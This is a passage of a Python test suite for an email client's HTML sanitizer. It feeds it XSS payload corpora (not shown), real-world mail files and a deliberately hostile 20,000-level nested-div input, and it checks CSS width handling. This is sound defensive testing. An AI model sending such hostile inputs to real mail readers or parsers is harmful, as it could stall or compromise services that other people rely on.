    message["From"] = "Mallory <mallory@example.com>"
    message["To"] = "Alice <alice@example.com>"
    message["Subject"] = "Newsletter"
    message.set_content("See the HTML version.")
    message.add_alternative(html, subtype="html", cte=wrapping)
    message.get_payload()[1].add_related(LOGO, "image", "png", cid="<logo@example.com>")
    return message.as_bytes()


def mail_payloads():
    """Both XSS corpora, H5SC's placeholders filled with its own values (so that its vectors
    really call alert and load something), each wrapped as mail in one of WRAPPINGS in turn."""
    params = []
    for name, fill in [("dompurify", str), ("h5sc", fill_h5sc)]:
        for param in corpus_payloads(f"{name}.json"):
            if param.values[0] is None:  # the corpus is absent: its skip
                params.append(pytest.param(None, None, marks=param.marks))
                continue
            wrapping = WRAPPINGS[len(params) % len(WRAPPINGS)]
            params.append(pytest.param(fill(param.values[0]), wrapping, id=param.id))
    return params


@pytest.mark.parametrize(("payload", "wrapping"), mail_payloads())
def test_xss_payloads_sent_as_mail_leave_nothing_that_runs_or_loads(payload, wrapping):
    raw = wrapped_as_mail(payload, wrapping)
    result, decoded = read_as_the_pane_does(raw)

    # the sanitizer got the sender's HTML, not what a decoding slip made of it (line ends, and
    # the one the encoder adds at the end, aside)
    def lines(text):
        return text.replace("\r\n", "\n").replace("\r", "\n").rstrip("\n")

    assert lines(decoded) == lines(payload)
    assert_safe(result.html)
    assert_safe(read_as_the_pane_does(raw, allow_remote=True)[0].html)


def realworld_html_files():
    """The realworld files whose body is HTML, with what expected.json says of each."""
    folder = CORPUS / "realworld"
    if not folder.exists():
        return [absent_param(folder, width=2)]
    expected = json.loads((folder / "expected.json").read_text())
    return [
        pytest.param(path, expected.get(path.name, {}), id=path.stem)
        for path in sorted(folder.glob("*.eml"))
        if find_parts(scan_bytes(path.read_bytes()).tree)[1] is not None
    ]


@pytest.mark.parametrize(("path", "expected"), realworld_html_files())
def test_realworld_html_shows_what_expected_json_says_and_nothing_that_runs(path, expected):
    result, _decoded = read_as_the_pane_does(path.read_bytes())
    assert_safe(result.html)
    text = shown_text(result.html)
    for shown in expected.get("body_contains", []):
        assert "".join(shown.split()) in text, (shown, result.html)
    for hidden in expected.get("body_lacks", []):
        assert "".join(hidden.split()) not in text, (hidden, result.html)
    links = {
        "".join(el.itertext()).strip(): el.get("href")
        for el in elements(result.html)
        if el.tag.endswith("}a")
    }
    for label, href in expected.get("links", {}).items():
        assert links.get(label) == href, (label, links)


def test_the_realworld_corpus_has_html_bodies():
    require(CORPUS / "realworld")
    assert len(realworld_html_files()) >= 3


def test_very_deep_nesting_is_flattened_before_parsing():
    """html5lib would take ~50 s over 20,000 levels; past MAX_NESTING the tags go, the text stays."""
    from mailbox.sanitize import MAX_NESTING, sanitize_html

    hostile = "<div>" * 20_000 + "deep text" + "</div>" * 20_000
    result = sanitize_html(hostile)
    assert "deep text" in result.html
    assert result.html.count("<div") <= MAX_NESTING + 1


def test_ordinary_long_newsletters_keep_their_markup():
    from mailbox.sanitize import sanitize_html

    rows = "".join(f"<tr><td><p>item {n}<td>price" for n in range(3000))  # unclosed, as in the wild
    result = sanitize_html(f"<table>{rows}</table>")
    assert result.html.count("<td") == 6000


def test_styles_that_differ_in_one_declaration_keep_them_all():
    """Each declaration of a simple style is decided on its own (and remembered): the answer
    is the same as for the style as a whole."""
    for n in range(3):
        output = clean(f'<p style="color:#333;padding:0 8px;margin-bottom:{n}px !important">x</p>')
        assert output == (
            f'<div><p style="color: #333; padding: 0 8px; margin-bottom: {n}px !important;">'
            "x</p></div>"
        )


# --- the widest fixed width: what the frame reflows below ----------------------------------------


@pytest.mark.parametrize(
    ("html", "width"),
    [
        ("<p>fluid</p>", 0),
        ('<table width="100%"><tr><td width="50%">x</td></tr></table>', 0),
        ('<table width="640"><tr><td width="200">x</td></tr></table>', 640),
        ('<table width=" 700px "><tr><td>x</td></tr></table>', 700),
        ('<div style="color: red; width: 600px">x</div><img width="480">', 600),
        ('<div style="min-width:500pt">x</div>', 667),
        ('<div style="max-width: 900px; width: 50%">x</div>', 0),  # a limit, not a width
        ('<div style="width: 99999999px">x</div>', 0),  # not a number we read
        ('<div width="9999999">x</div>', 0),
        ('<table width="50000"><tr><td>x</td></tr></table>', 10_000),
    ],
)
def test_the_widest_fixed_width_is_reported_in_css_pixels(html, width):
    assert sanitize_html(html).width == width


def test_important_cannot_keep_a_fixed_width_from_the_frames_reflow():
    output = clean(
        '<div style="width: 640px !important; min-width:640px!important; color: red !important">'
        '<img style="height: 200px !important" width="640"><p style="white-space: nowrap '
        '!important; max-width: calc(640px) !important">x</p></div>'
    )
    assert output == (
        '<div><div style="width: 640px; min-width: 640px; color: red !important;">'
        '<img width="640" style="height: 200px;"><p style="white-space: nowrap; max-width: '
        'calc(640px);">x</p></div></div>'
    )
